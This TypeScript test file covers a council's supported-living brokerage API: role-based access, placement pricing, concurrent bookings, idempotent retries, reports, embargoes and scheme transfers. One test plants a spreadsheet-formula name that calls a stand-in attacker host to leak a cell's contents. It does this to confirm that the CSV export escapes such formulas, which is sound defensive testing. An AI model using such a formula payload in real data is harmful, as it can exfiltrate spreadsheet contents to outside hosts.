// People, schemes, rate cards and placements through the API: who may see what, the price of a
// package, twenty officers racing for one last unit, a retried request, and the summary report.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { and, eq } from 'drizzle-orm';
import { auditEvents } from '../platform/audit/schema.ts';
import { commandLineActor } from '../platform/audit/service.ts';
import { createZones } from '../organisations/service.ts';
import { insertSchemes, insertUnits } from './scheme-repository.ts';
import { api, testWorld, type TestWorld } from '../../test/support/test-app.ts';
import { liveTieredFramework } from '../../test/support/procurement.ts';
import {
  assessedPerson as assessedPersonIn,
  COMPLEX_SCORES as scores,
  RATE_CARD,
  schemeWithVacancies,
} from '../../test/support/brokerage.ts';

let world: TestWorld;
let framework: Awaited<ReturnType<typeof liveTieredFramework>>;
before(async () => {
  world = await testWorld();
  framework = await liveTieredFramework(world);
});
after(() => world.close());

const assessedPerson = (extra: Record<string, unknown> = {}) => assessedPersonIn(world, extra);
const kestrelNorth = () =>
  framework.memberships.find((m) => m.providerId === world.otherProviderId && m.tier === 'tier1')!;
const northScheme = (units: string[]) =>
  schemeWithVacancies(world, { providerId: world.otherProviderId, membershipId: kestrelNorth().id }, units);

/** Tries to place someone in a free unit of another council's scheme, by its id. */
async function placeInAnotherCouncilsUnit(personId: string) {
  const actor = { ...commandLineActor, organisationId: world.otherCouncilId };
  const [zone] = await createZones(world.db, actor, world.otherCouncilId, ['Elsewhere']);
  const now = new Date();
  const scheme = {
    organisationId: world.otherCouncilId,
    id: randomUUID(),
    name: 'Their Court',
    housingProviderName: 'Their Homes',
    addressLine1: '1 Their Road',
    townCity: 'Preston',
    postcode: 'PR1 2HE',
    zoneId: zone!.id,
    accommodationBand: 'complex',
    coreMinutesPerWeek: 0,
    nightCover: 'none',
    wakingNightMinutes: 0,
    createdAt: now,
    updatedAt: now,
  };
  const unit = { organisationId: world.otherCouncilId, id: randomUUID(), schemeId: scheme.id, name: 'Flat 1' };
  await insertSchemes(world.db, [scheme]);
  await insertUnits(world.db, [{ ...unit, features: [], availableFrom: '2026-01-01', createdAt: now }]);
  return api(world, 'brokerage_officer', 'POST', '/api/v1/placements', {
    personId,
    unitId: unit.id,
    providerId: world.otherProviderId,
    membershipId: kestrelNorth().id,
    startsOn: '2027-01-11',
    oneToOneMinutesPerWeek: 600,
    nightSupport: 'sleep-in',
  });
}

test("people: validated, banded by the matrix, seen only by the owning council's roles, every view audited", async () => {
  const bad = await api(world, 'social_worker', 'POST', '/api/v1/people', {
    name: '',
    dateOfBirth: '1990-02-30',
    caseReference: 'X',
    nhsNumber: '943 476 5918',
    clientGroups: [],
    inCounty: true,
    paymentRoute: 'cash',
    funding: [
      { stream: 'care-act', percent: 60 },
      { stream: 'nhs-chc', percent: 30 },
    ],
  });
  assert.equal(bad.statusCode, 422);
  assert.deepEqual(
    bad
      .json()
      .errors.map((e: { field: string }) => e.field)
      .sort(),
    ['clientGroups', 'dateOfBirth', 'funding', 'name', 'nhsNumber', 'paymentRoute'],
  );
  const person = await assessedPerson({
    nhsNumber: '943 476 5919',
    funding: [
      { stream: 'care-act', percent: 60 },
      { stream: 'nhs-chc', percent: 40 },
    ],
  });
  const record = (await api(world, 'brokerage_officer', 'GET', `/api/v1/people/${person.id}`)).json();
  assert.equal(record.person.nhsNumber, '9434765919');
  assert.equal(record.needs.band, 'complex');
  assert.equal(record.needs.bandReason, 'Complex: total 12, at least 11 for complex');
  for (const seat of ['provider_user', 'evaluator', 'quality_officer'] as const) {
    assert.equal((await api(world, seat, 'GET', `/api/v1/people/${person.id}`)).statusCode, 403, seat);
  }
  assert.equal(
    (await api(world, 'other_council_commissioner', 'GET', `/api/v1/people/${person.id}`)).statusCode,
    404,
    'another council is told it does not exist',
  );
  assert.equal((await api(world, 'auditor', 'GET', `/api/v1/people/${person.id}`)).statusCode, 200);
  assert.equal((await api(world, 'auditor', 'POST', `/api/v1/people/${person.id}/assessments`, {})).statusCode, 403);
  const duplicate = await api(world, 'social_worker', 'POST', '/api/v1/people', {
    name: 'Again',
    dateOfBirth: '1990-05-17',
    caseReference: person.caseReference,
    clientGroups: ['autism'],
    inCounty: true,
    paymentRoute: 'commissioned',
    funding: [{ stream: 'care-act', percent: 100 }],
  });
  assert.equal(duplicate.statusCode, 409);
  const views = await world.db
    .select()
    .from(auditEvents)
    .where(and(eq(auditEvents.recordId, person.id), eq(auditEvents.action, 'person.view')));
  assert.equal(views.length, 2, 'each view is written to the audit trail');
});

test("the vacancy list: brokerage sees all, the scheme's care provider its own, nobody else", async () => {
  const { scheme, units } = await northScheme(['Flat 1']);
  const list = (
    await api(world, 'brokerage_officer', 'GET', `/api/v1/vacancies?zoneId=${world.zoneIds[0]}&band=complex`)
  ).json();
  const vacancy = list.find((v: { unitId: string }) => v.unitId === units[0]!.unit.id);
  assert.equal(vacancy.zoneName, 'North');
  assert.equal(vacancy.careProviderName, 'Kestrel Care Ltd');
  assert.ok(vacancy.voidDays >= 80, 'void since 1 September');
  assert.ok(
    (await api(world, 'other_provider_user', 'GET', '/api/v1/vacancies'))
      .json()
      .some((v: { schemeId: string }) => v.schemeId === scheme.id),
  );
  assert.ok(
    !(await api(world, 'provider_user', 'GET', '/api/v1/vacancies'))
      .json()
      .some((v: { schemeId: string }) => v.schemeId === scheme.id),
  );
  assert.equal((await api(world, 'provider_user', 'GET', `/api/v1/schemes/${scheme.id}`)).statusCode, 404);
  assert.equal((await api(world, 'other_council_commissioner', 'GET', `/api/v1/schemes/${scheme.id}`)).statusCode, 404);
  assert.equal(
    (
      await api(world, 'provider_user', 'POST', `/api/v1/schemes/${scheme.id}/units`, {
        name: 'Flat 9',
        availableFrom: '2026-11-01',
      })
    ).statusCode,
    404,
  );
  const reported = await api(world, 'other_provider_user', 'POST', `/api/v1/schemes/${scheme.id}/units`, {
    name: 'Flat 2',
    features: [],
    availableFrom: '2026-11-01',
  });
  assert.equal(reported.statusCode, 201, 'the care provider reports a new vacancy in its own scheme');
  assert.equal((await api(world, 'social_worker', 'POST', '/api/v1/schemes', {})).statusCode, 403);
});

test('a placement is priced from the rate card in force; twenty officers racing for the last unit give one placement', async () => {
  const vehicleId = framework.vehicle.id;
  const card = RATE_CARD;
  assert.equal(
    (await api(world, 'brokerage_officer', 'POST', `/api/v1/vehicles/${vehicleId}/rate-cards`, card)).statusCode,
    403,
  );
  assert.equal(
    (await api(world, 'other_council_commissioner', 'POST', `/api/v1/vehicles/${vehicleId}/rate-cards`, card))
      .statusCode,
    404,
  );
  assert.equal(
    (
      await api(world, 'commissioner', 'POST', `/api/v1/vehicles/${vehicleId}/rate-cards`, {
        ...card,
        hourly: { supportHour: -1 },
      })
    ).statusCode,
    422,
  );
  assert.equal(
    (await api(world, 'commissioner', 'POST', `/api/v1/vehicles/${vehicleId}/rate-cards`, card)).statusCode,
    201,
  );
  assert.equal(
    (await api(world, 'commissioner', 'POST', `/api/v1/vehicles/${vehicleId}/rate-cards`, card)).statusCode,
    409,
  );
  assert.deepEqual(
    (await api(world, 'social_worker', 'GET', `/api/v1/vehicles/${vehicleId}/rate-cards`))
      .json()
      .map((c: { effectiveFrom: string }) => c.effectiveFrom),
    ['2026-04-01'],
  );
  assert.equal(
    (await api(world, 'other_council_commissioner', 'GET', `/api/v1/vehicles/${vehicleId}/rate-cards`)).statusCode,
    404,
  );

  const { units } = await northScheme(['Flat A']);
  const people = await Promise.all(Array.from({ length: 20 }, () => assessedPerson()));
  const place = (personId: string, unitId = units[0]!.unit.id) =>
    api(world, 'brokerage_officer', 'POST', '/api/v1/placements', {
      personId,
      unitId,
      providerId: world.otherProviderId,
      membershipId: kestrelNorth().id,
      startsOn: '2027-01-11',
      oneToOneMinutesPerWeek: 600,
      nightSupport: 'sleep-in',
    });
  const results = await Promise.all(people.map((person) => place(person.id)));
  const created = results.filter((result) => result.statusCode === 201);
  assert.equal(created.length, 1, results.map((r) => r.statusCode).join(','));
  assert.ok(
    results
      .filter((result) => result.statusCode === 409)
      .every((result) => result.json().detail === 'This vacancy has just been taken: choose another'),
  );
  assert.equal(results.length - created.length, results.filter((result) => result.statusCode === 409).length);
  // Once it is taken it is refused before anything is written; a unit the organisation has not got, by its field.
  const again = await place((await assessedPerson()).id);
  assert.equal(again.statusCode, 409);
  assert.equal(again.json().detail, 'This vacancy has just been taken: choose another');
  const unknownUnit = await place(people[1]!.id, '00000000-0000-4000-8000-000000000000');
  assert.equal(unknownUnit.statusCode, 422);
  assert.deepEqual(unknownUnit.json().errors, [{ field: 'unitId', message: 'Choose a vacancy of your organisation' }]);
  const theirs = await placeInAnotherCouncilsUnit(people[1]!.id);
  assert.equal(theirs.statusCode, 422, 'a free unit of another council is not ours to place in');
  assert.deepEqual(theirs.json().errors, unknownUnit.json().errors);
  const placement = created[0]!.json();
  assert.equal(placement.tenantsAtStart, 1);
  assert.deepEqual(
    placement.priceLines.map((line: { label: string; pence: number }) => [line.label, line.pence]),
    [
      ['Weekly rate', 145_000],
      ['1:1 support', 25_000],
    ],
  );
  assert.equal(placement.weeklyPricePence, 170_000);
  assert.equal(placement.annualPence, 8_864_286);
  assert.equal(placement.contributionPence, 2_500);
  assert.equal(placement.coreShareMinutesPerWeek, 168 * 60);
  const register = (await api(world, 'finance_officer', 'GET', '/api/v1/placements?activeOn=2027-01-11')).json();
  assert.equal(register.total, 1);
  assert.equal((await api(world, 'provider_user', 'GET', '/api/v1/placements')).statusCode, 403);
  assert.equal(
    (await api(world, 'other_council_commissioner', 'GET', `/api/v1/placements/${placement.id}`)).statusCode,
    404,
  );
});

test('a retried placement with the same Idempotency-Key creates nothing twice', async () => {
  const { units } = await northScheme(['Flat B']);
  const person = await assessedPerson();
  const body = {
    personId: person.id,
    unitId: units[0]!.unit.id,
    providerId: world.otherProviderId,
    membershipId: kestrelNorth().id,
    startsOn: '2027-01-12',
    oneToOneMinutesPerWeek: 0,
    nightSupport: 'none',
  };
  const send = (payload: unknown, key: string) =>
    world.app.inject({
      method: 'POST',
      url: '/api/v1/placements',
      headers: { authorization: `Bearer ${world.tokens.brokerage_officer}`, 'idempotency-key': key },
      payload: payload as object,
    });
  const first = await send(body, 'retry-key-0001');
  const again = await send(body, 'retry-key-0001');
  assert.equal(first.statusCode, 201, first.body);
  assert.equal(again.statusCode, 201);
  assert.equal(again.json().id, first.json().id);
  const register = (await api(world, 'brokerage_officer', 'GET', '/api/v1/placements?activeOn=2027-01-12')).json();
  assert.equal(register.items.filter((p: { personId: string }) => p.personId === person.id).length, 1);
  assert.equal((await send({ ...body, oneToOneMinutesPerWeek: 60 }, 'retry-key-0001')).statusCode, 422);
  assert.equal((await send(body, 'short')).statusCode, 422);
});

test('the summary counts placements active on the date, by route, in and out of county, off framework', async () => {
  const { units } = await northScheme(['Flat C']);
  const directPayment = await assessedPerson({ paymentRoute: 'direct-payment', inCounty: false });
  const offFramework = await assessedPerson({ paymentRoute: 'individual-service-fund' });
  const onFramework = await api(world, 'brokerage_officer', 'POST', '/api/v1/placements', {
    personId: directPayment.id,
    unitId: units[0]!.unit.id,
    providerId: world.otherProviderId,
    membershipId: kestrelNorth().id,
    startsOn: '2027-02-01',
    oneToOneMinutesPerWeek: 0,
    nightSupport: 'none',
  });
  assert.equal(onFramework.statusCode, 201, onFramework.body);
  const missingReason = await api(world, 'brokerage_officer', 'POST', '/api/v1/placements', {
    personId: offFramework.id,
    providerId: world.providerId,
    startsOn: '2027-02-01',
    oneToOneMinutesPerWeek: 900,
    nightSupport: 'none',
  });
  assert.deepEqual(
    missingReason.json().errors.map((e: { field: string }) => e.field),
    ['offFrameworkReason', 'agreedWeeklyPricePence'],
  );
  const spot = await api(world, 'brokerage_officer', 'POST', '/api/v1/placements', {
    personId: offFramework.id,
    providerId: world.providerId,
    startsOn: '2027-02-01',
    oneToOneMinutesPerWeek: 900,
    nightSupport: 'none',
    offFrameworkReason: 'No framework provider could meet her needs at home',
    agreedWeeklyPricePence: 95_000,
  });
  assert.equal(spot.statusCode, 201, spot.body);

  const summary = (
    await api(world, 'commissioner', 'GET', '/api/v1/reports/placements-summary?date=2027-02-01')
  ).json();
  assert.equal(summary.date, '2027-02-01');
  assert.ok(summary.placements >= 3);
  assert.equal(summary.outOfCounty, 1);
  assert.deepEqual(summary.byPaymentRoute.directPayment, {
    placements: 1,
    providers: 1,
    annualGrossCostPence: onFramework.json().annualPence,
  });
  assert.deepEqual(summary.byPaymentRoute.individualServiceFund, {
    placements: 1,
    providers: 1,
    annualGrossCostPence: 4_953_571,
  });
  assert.deepEqual(summary.offFramework, { placements: 1, annualGrossCostPence: 4_953_571 });
  assert.equal(
    summary.annualGrossCostPence,
    summary.byPaymentRoute.commissioned.annualGrossCostPence +
      summary.byPaymentRoute.directPayment.annualGrossCostPence +
      summary.byPaymentRoute.individualServiceFund.annualGrossCostPence,
  );
  assert.equal(
    (await api(world, 'commissioner', 'GET', '/api/v1/reports/placements-summary?date=2027-13-01')).statusCode,
    422,
  );
  assert.equal(
    (await api(world, 'social_worker', 'GET', '/api/v1/reports/placements-summary?date=2027-02-01')).statusCode,
    403,
  );
  const before = (await api(world, 'commissioner', 'GET', '/api/v1/reports/placements-summary?date=2026-12-01')).json();
  assert.equal(before.placements, 0);

  const csv = await api(world, 'finance_officer', 'GET', '/api/v1/placements.csv?activeOn=2027-02-01&offFramework=yes');
  assert.match(csv.headers['content-type'] as string, /text\/csv/);
  const lines = csv.body.trim().split('\n');
  assert.equal(lines.length, 2);
  assert.match(lines[1]!, /,yes,yes,15\.00,0\.00,none,950\.00,49535\.71,25\.00$/);

  const ended = await api(world, 'brokerage_officer', 'POST', `/api/v1/placements/${onFramework.json().id}/end`, {
    endsOn: '2027-03-31',
    reason: 'moved',
  });
  assert.equal(ended.statusCode, 200, ended.body);
  assert.ok(
    (await api(world, 'brokerage_officer', 'GET', '/api/v1/vacancies'))
      .json()
      .some(
        (v: { unitId: string; voidSince: string }) => v.unitId === units[0]!.unit.id && v.voidSince === '2027-04-01',
      ),
  );
  assert.equal(
    (
      await api(world, 'brokerage_officer', 'POST', `/api/v1/placements/${onFramework.json().id}/end`, {
        endsOn: '2027-03-31',
        reason: 'moved',
      })
    ).statusCode,
    409,
  );
});

test("the register's CSV keeps a name that looks like a formula as text, so a spreadsheet does not run it", async () => {
  const { units } = await northScheme(['Flat F']);
  const name = '=HYPERLINK("http://attacker.invalid/?x="&A2,"Open record")';
  const person = await assessedPerson({ name });
  const placed = await api(world, 'brokerage_officer', 'POST', '/api/v1/placements', {
    personId: person.id,
    unitId: units[0]!.unit.id,
    providerId: world.otherProviderId,
    membershipId: kestrelNorth().id,
    startsOn: '2027-01-20',
    oneToOneMinutesPerWeek: 0,
    nightSupport: 'none',
  });
  assert.equal(placed.statusCode, 201, placed.body);

  const csv = await api(world, 'finance_officer', 'GET', '/api/v1/placements.csv?activeOn=2027-01-20');
  const row = (parse(csv.body, { columns: true }) as Record<string, string>[]).find(
    (r) => r.placement === placed.json().id,
  )!;
  assert.equal(row.person, `'${name}`);
  assert.equal(row.weekly_price, (placed.json().weeklyPricePence / 100).toFixed(2), 'amounts stay numbers');
});

test('an embargo stops new placements until lifted; the care provider reports the void when a tenant leaves', async () => {
  const { units } = await northScheme(['Flat D']);
  const person = await assessedPerson();
  const place = () =>
    api(world, 'brokerage_officer', 'POST', '/api/v1/placements', {
      personId: person.id,
      unitId: units[0]!.unit.id,
      providerId: world.otherProviderId,
      membershipId: kestrelNorth().id,
      startsOn: '2026-11-02',
      oneToOneMinutesPerWeek: 0,
      nightSupport: 'none',
    });
  assert.equal(
    (
      await api(world, 'social_worker', 'POST', '/api/v1/embargoes', {
        providerId: world.otherProviderId,
        reason: 'x',
        startsOn: '2026-10-01',
      })
    ).statusCode,
    403,
  );
  const embargo = await api(world, 'quality_officer', 'POST', '/api/v1/embargoes', {
    providerId: world.otherProviderId,
    reason: 'Safeguarding enquiry open',
    startsOn: '2026-10-01',
  });
  assert.equal(embargo.statusCode, 201, embargo.body);
  const refused = await place();
  assert.equal(refused.statusCode, 422);
  assert.deepEqual(refused.json().errors, [
    { field: 'providerId', message: 'The provider is under an embargo on new placements: Safeguarding enquiry open' },
  ]);
  assert.equal(
    (await api(world, 'commissioner', 'POST', `/api/v1/embargoes/${embargo.json().id}/lift`, { reason: '' }))
      .statusCode,
    422,
  );
  assert.equal(
    (
      await api(world, 'commissioner', 'POST', `/api/v1/embargoes/${embargo.json().id}/lift`, {
        reason: 'Enquiry closed, no further action',
      })
    ).statusCode,
    204,
  );
  assert.equal(
    (await api(world, 'commissioner', 'POST', `/api/v1/embargoes/${embargo.json().id}/lift`, { reason: 'again' }))
      .statusCode,
    409,
  );
  const placed = await place();
  assert.equal(placed.statusCode, 201, placed.body);

  const voidUrl = `/api/v1/units/${units[0]!.unit.id}/void`;
  assert.equal(
    (await api(world, 'provider_user', 'POST', voidUrl, { endsOn: '2026-11-20', reason: 'moved' })).statusCode,
    404,
    "another provider's scheme",
  );
  assert.equal(
    (await api(world, 'other_provider_user', 'POST', voidUrl, { endsOn: '2026-11-01', reason: 'moved' })).statusCode,
    422,
    'before the tenancy began',
  );
  const reported = await api(world, 'other_provider_user', 'POST', voidUrl, {
    endsOn: '2026-11-20',
    reason: 'hospital',
  });
  assert.equal(reported.statusCode, 200, reported.body);
  assert.equal(
    (await api(world, 'brokerage_officer', 'GET', `/api/v1/placements/${placed.json().id}`)).json().endReason,
    'hospital',
  );
  assert.equal(
    (await api(world, 'other_provider_user', 'POST', voidUrl, { endsOn: '2026-11-20', reason: 'hospital' })).statusCode,
    409,
  );
  assert.equal(
    (
      await api(world, 'brokerage_officer', 'POST', `/api/v1/placements/${placed.json().id}/end`, {
        endsOn: '2026-11-21',
        reason: 'moved',
      })
    ).statusCode,
    409,
    'already ended with the tenancy',
  );
});

test("a person's record changes, keeping case references unique", async () => {
  const [first, second] = [await assessedPerson(), await assessedPerson()];
  const record = (await api(world, 'social_worker', 'GET', `/api/v1/people/${first.id}`)).json().person;
  const body = { ...record, name: 'Renamed Person', homeZoneId: record.homeZoneId, nhsNumber: null };
  for (const key of ['organisationId', 'id', 'createdAt', 'updatedAt']) delete body[key];
  const changed = await api(world, 'social_worker', 'PUT', `/api/v1/people/${first.id}`, body);
  assert.equal(changed.statusCode, 200, changed.body);
  assert.equal(changed.json().name, 'Renamed Person');
  const secondReference = (await api(world, 'social_worker', 'GET', `/api/v1/people/${second.id}`)).json().person
    .caseReference;
  assert.equal(
    (
      await api(world, 'social_worker', 'PUT', `/api/v1/people/${first.id}`, {
        ...body,
        caseReference: secondReference,
      })
    ).statusCode,
    409,
  );
  assert.equal((await api(world, 'commissioner', 'PUT', `/api/v1/people/${first.id}`, body)).statusCode, 403);
  assert.equal(
    (await api(world, 'social_worker', 'PUT', '/api/v1/people/00000000-0000-4000-8000-000000000000', body)).statusCode,
    404,
  );
});

test('brokerage settings and waiting-list matching: the right roles, and bad input refused with every problem', async () => {
  const url = `/api/v1/vehicles/${framework.vehicle.id}/brokerage-settings`;
  const settings = {
    offerResponseWorkingDays: 3,
    tier2Mode: 'borough-wide',
    rankingRule: 'quality-price',
    rankingQualityPercent: 60,
  };
  assert.equal((await api(world, 'brokerage_officer', 'PUT', url, settings)).statusCode, 403);
  assert.equal(
    (
      await api(world, 'commissioner', 'PUT', url, { ...settings, offerResponseWorkingDays: 0, tier2Mode: 'anywhere' })
    ).json().errors.length,
    2,
  );
  const saved = await api(world, 'commissioner', 'PUT', url, settings);
  assert.equal(saved.statusCode, 200, saved.body);
  assert.deepEqual(saved.json().ranking, { rule: 'quality-price', qualityPercent: 60 });
  assert.equal(saved.json().offerResponseWorkingDays, 3);

  const bad = await api(world, 'brokerage_officer', 'POST', '/api/v1/matching', {
    referrals: [{ id: 'R1' }],
    vacancies: 'none',
  });
  assert.equal(bad.statusCode, 422);
  assert.deepEqual(
    bad.json().errors.map((e: { field: string }) => e.field),
    [
      'referrals[0].zone',
      'referrals[0].band',
      'referrals[0].needs',
      'referrals[0].anyZone',
      'referrals[0].incompatibleSchemes',
      'vacancies',
    ],
  );
  const plan = await api(world, 'brokerage_officer', 'POST', '/api/v1/matching', {
    referrals: [{ id: 'R1', zone: 'north', band: 'complex', needs: [], anyZone: false, incompatibleSchemes: [] }],
    vacancies: [
      {
        id: 'V1',
        scheme: 'S1',
        zone: 'north',
        band: 'complex',
        features: [],
        providerTier: 2,
        weeklyPricePence: 100_000,
      },
    ],
  });
  assert.equal(plan.statusCode, 200, plan.body);
  assert.deepEqual(plan.json().assignments, [{ referral: 'R1', vacancy: 'V1' }]);
  assert.deepEqual(plan.json().firstComeFirstServed, { placed: 1, placedWithTier1: 0, totalWeeklyPricePence: 100_000 });
  assert.equal((await api(world, 'social_worker', 'POST', '/api/v1/matching', {})).statusCode, 403);
});

test("a scheme's care moves to another provider: people keep their tenancies, old placements end, new ones start", async () => {
  const { scheme, units } = await northScheme(['Flat T1', 'Flat T2']);
  const [first, second] = [await assessedPerson(), await assessedPerson()];
  for (const [i, person] of [first, second].entries()) {
    const placed = await api(world, 'brokerage_officer', 'POST', '/api/v1/placements', {
      personId: person.id,
      unitId: units[i]!.unit.id,
      providerId: world.otherProviderId,
      membershipId: kestrelNorth().id,
      startsOn: '2027-01-11',
      oneToOneMinutesPerWeek: 600,
      nightSupport: 'sleep-in',
    });
    assert.equal(placed.statusCode, 201, placed.body);
  }
  const heronNorth = framework.memberships.find((m) => m.providerId === world.providerId && m.tier === 'tier2')!;
  const url = `/api/v1/schemes/${scheme.id}/transfer`;
  const body = {
    careProviderId: world.providerId,
    membershipId: heronNorth.id,
    transferOn: '2027-04-01',
    reason: "Kestrel's contract ended; Heron takes over under TUPE",
  };
  assert.equal((await api(world, 'social_worker', 'POST', url, body)).statusCode, 403);
  assert.equal((await api(world, 'other_council_commissioner', 'POST', url, body)).statusCode, 404);
  assert.deepEqual(
    (await api(world, 'brokerage_officer', 'POST', url, { ...body, membershipId: kestrelNorth().id }))
      .json()
      .errors.map((e: { field: string }) => e.field),
    ['membershipId'],
  );
  assert.deepEqual(
    (await api(world, 'brokerage_officer', 'POST', url, { ...body, transferOn: '2027-01-11' }))
      .json()
      .errors.map((e: { field: string }) => e.field),
    ['transferOn'],
  );
  const moved = await api(world, 'brokerage_officer', 'POST', url, body);
  assert.equal(moved.statusCode, 200, moved.body);
  assert.equal(moved.json().ended, 2);
  assert.equal(moved.json().scheme.careProviderName, 'Heron Supported Living Ltd');
  assert.equal(moved.json().scheme.tenants, 2, 'nobody lost their home');
  const started = moved.json().started as {
    personId: string;
    tenancyId: string;
    startsOn: string;
    weeklyPricePence: number;
    providerId: string;
  }[];
  assert.ok(
    started.every((placement) => placement.startsOn === '2027-04-01' && placement.providerId === world.providerId),
  );
  assert.equal(started[0]!.weeklyPricePence, 118_000 + 25_000, 'two tenants: the 2-3 rate, and ten hours of 1:1');
  const register = (
    await api(
      world,
      'brokerage_officer',
      'GET',
      `/api/v1/placements?activeOn=2027-03-31&providerId=${world.otherProviderId}`,
    )
  ).json();
  const ended = register.items.filter((p: { personId: string }) => p.personId === first.id);
  assert.deepEqual(
    ended.map((p: { endsOn: string; endReason: string }) => [p.endsOn, p.endReason]),
    [['2027-03-31', 'provider-change']],
  );
  assert.equal(
    started.find((placement) => placement.personId === first.id)!.tenancyId,
    ended[0].tenancyId,
    'the same tenancy',
  );
});

test("the care needs matrix is the council's to set, and later assessments are banded by it", async () => {
  const person = await assessedPerson();
  const matrix = {
    domains: [{ key: 'support', label: 'Support needed', maxScore: 10 }],
    thresholds: [
      { band: 'highly-complex', minimumTotal: 8 },
      { band: 'complex', minimumTotal: 4 },
    ],
    overrides: [],
  };
  assert.equal((await api(world, 'social_worker', 'PUT', '/api/v1/assessment-matrix', matrix)).statusCode, 403);
  const bad = await api(world, 'commissioner', 'PUT', '/api/v1/assessment-matrix', {
    ...matrix,
    thresholds: [
      { band: 'highly-complex', minimumTotal: 2 },
      { band: 'complex', minimumTotal: 4 },
    ],
  });
  assert.deepEqual(bad.json().errors, [
    { field: 'thresholds', message: 'Highly complex must need a higher total than complex' },
  ]);
  assert.equal((await api(world, 'commissioner', 'PUT', '/api/v1/assessment-matrix', matrix)).statusCode, 200);
  assert.deepEqual((await api(world, 'social_worker', 'GET', '/api/v1/assessment-matrix')).json(), matrix);
  const assess = (body: Record<string, unknown>) =>
    api(world, 'social_worker', 'POST', `/api/v1/people/${person.id}/assessments`, {
      assessedOn: '2026-11-02',
      assessorName: 'Sam Social',
      oneToOneMinutesPerWeek: 0,
      nightSupport: 'none',
      ...body,
    });
  assert.deepEqual((await assess({ scores })).json().errors, [
    { field: 'scores.support', message: 'Score support needed as a whole number from 0 to 10' },
  ]);
  assert.equal((await assess({ scores: { support: 9 } })).json().band, 'highly-complex');
  assert.deepEqual((await assess({ scores: { support: 5 }, mustNotLiveWith: [person.id] })).json().errors, [
    { field: 'mustNotLiveWith', message: 'A person cannot be kept apart from themselves' },
  ]);
  assert.equal((await assess({ scores: { support: 5 }, assessedOn: '2099-01-01' })).statusCode, 422);
});
